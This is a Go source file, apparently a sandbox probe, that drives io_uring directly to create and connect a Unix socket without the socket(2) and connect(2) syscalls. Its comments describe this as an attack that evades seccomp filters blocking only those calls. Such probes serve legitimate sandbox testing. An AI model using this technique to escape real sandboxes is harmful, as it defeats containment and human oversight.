//go:build linux

package probe

import (
	"fmt"
	"sync/atomic"
	"unsafe"

	"golang.org/x/sys/unix"
)

// The io_uring ABI (include/uapi/linux/io_uring.h), spelled out: the
// attack needs no library, so nothing but the kernel decides.
const (
	ioringOffSQRing   = 0
	ioringOffCQRing   = 0x8000000
	ioringOffSQEs     = 0x10000000
	ioringFeatSingle  = 1 << 0 // IORING_FEAT_SINGLE_MMAP
	ioringEnterGetEvs = 1 << 0 // IORING_ENTER_GETEVENTS
	ioringOpConnect   = 16
	ioringOpSocket    = 45
	sqeSize           = 64
	cqeSize           = 16
)

type sqringOffsets struct {
	head, tail, ringMask, ringEntries, flags, dropped, array, resv1 uint32
	userAddr                                                        uint64
}

type cqringOffsets struct {
	head, tail, ringMask, ringEntries, overflow, cqes, flags, resv1 uint32
	userAddr                                                        uint64
}

type uringParams struct {
	sqEntries, cqEntries, flags, sqThreadCPU, sqThreadIdle, features, wqFd uint32
	resv                                                                   [3]uint32
	sqOff                                                                  sqringOffsets
	cqOff                                                                  cqringOffsets
}

// ring is a one-entry io_uring, enough to run one request at a time.
type ring struct {
	fd       int
	sq, sqes []byte
	cq       []byte
	p        uringParams
}

// uringConnect makes an AF_UNIX stream socket with IORING_OP_SOCKET and
// connects it to path with IORING_OP_CONNECT: neither socket(2) nor
// connect(2) is called, so a seccomp filter that only refuses those sees
// nothing. Each step's errno is reported.
func uringConnect(path string) error {
	r, err := newRing()
	if err != nil {
		return err
	}
	sock, err := r.run(func(sqe []byte) {
		sqe[0] = ioringOpSocket
		*(*int32)(unsafe.Pointer(&sqe[4])) = unix.AF_UNIX      // fd: domain
		*(*uint64)(unsafe.Pointer(&sqe[8])) = unix.SOCK_STREAM // off: type
	})
	if err != nil {
		return fmt.Errorf("IORING_OP_SOCKET: %w", err)
	}
	sa := unix.RawSockaddrUnix{Family: unix.AF_UNIX}
	if len(path) >= len(sa.Path) {
		return fmt.Errorf("socket path too long")
	}
	for i := 0; i < len(path); i++ {
		sa.Path[i] = int8(path[i])
	}
	_, err = r.run(func(sqe []byte) {
		sqe[0] = ioringOpConnect
		*(*int32)(unsafe.Pointer(&sqe[4])) = int32(sock)
		*(*uint64)(unsafe.Pointer(&sqe[8])) = uint64(unsafe.Sizeof(sa)) // off: addrlen
		*(*uint64)(unsafe.Pointer(&sqe[16])) = uint64(uintptr(unsafe.Pointer(&sa)))
	})
	if err != nil {
		return fmt.Errorf("IORING_OP_CONNECT: %w", err)
	}
	_, err = unix.Write(sock, []byte("ZS-PROBE\n"))
	return err
}

func newRing() (*ring, error) {
	r := &ring{}
	fd, _, e := unix.Syscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&r.p)), 0)
	if e != 0 {
		return nil, fmt.Errorf("io_uring_setup: %w", e)
	}
	r.fd = int(fd)
	sqSize := int(r.p.sqOff.array + r.p.sqEntries*4)
	cqSize := int(r.p.cqOff.cqes + r.p.cqEntries*cqeSize)
	if r.p.features&ioringFeatSingle != 0 {
		sqSize = max(sqSize, cqSize)
	}
	var err error
	if r.sq, err = unix.Mmap(r.fd, ioringOffSQRing, sqSize, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE); err != nil {
		return nil, fmt.Errorf("mmap sq ring: %w", err)
	}
	r.cq = r.sq
	if r.p.features&ioringFeatSingle == 0 {
		if r.cq, err = unix.Mmap(r.fd, ioringOffCQRing, cqSize, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE); err != nil {
			return nil, fmt.Errorf("mmap cq ring: %w", err)
		}
	}
	if r.sqes, err = unix.Mmap(r.fd, ioringOffSQEs, int(r.p.sqEntries*sqeSize), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE); err != nil {
		return nil, fmt.Errorf("mmap sqes: %w", err)
	}
	return r, nil
}

func u32(b []byte, off uint32) *uint32 { return (*uint32)(unsafe.Pointer(&b[off])) }

// run submits one request (fill writes it) and waits for its completion:
// the result, or its errno.
func (r *ring) run(fill func(sqe []byte)) (int, error) {
	tail := atomic.LoadUint32(u32(r.sq, r.p.sqOff.tail))
	idx := tail & atomic.LoadUint32(u32(r.sq, r.p.sqOff.ringMask))
	sqe := r.sqes[idx*sqeSize : (idx+1)*sqeSize]
	clear(sqe)
	fill(sqe)
	*u32(r.sq, r.p.sqOff.array+idx*4) = idx
	atomic.StoreUint32(u32(r.sq, r.p.sqOff.tail), tail+1)
	if _, _, e := unix.Syscall6(unix.SYS_IO_URING_ENTER, uintptr(r.fd), 1, 1, ioringEnterGetEvs, 0, 0); e != 0 {
		return 0, fmt.Errorf("io_uring_enter: %w", e)
	}
	head := atomic.LoadUint32(u32(r.cq, r.p.cqOff.head))
	if head == atomic.LoadUint32(u32(r.cq, r.p.cqOff.tail)) {
		return 0, fmt.Errorf("no completion")
	}
	ci := head & atomic.LoadUint32(u32(r.cq, r.p.cqOff.ringMask))
	res := *(*int32)(unsafe.Pointer(&r.cq[r.p.cqOff.cqes+ci*cqeSize+8]))
	atomic.StoreUint32(u32(r.cq, r.p.cqOff.head), head+1)
	if res < 0 {
		return 0, unix.Errno(-res)
	}
	return int(res), nil
}
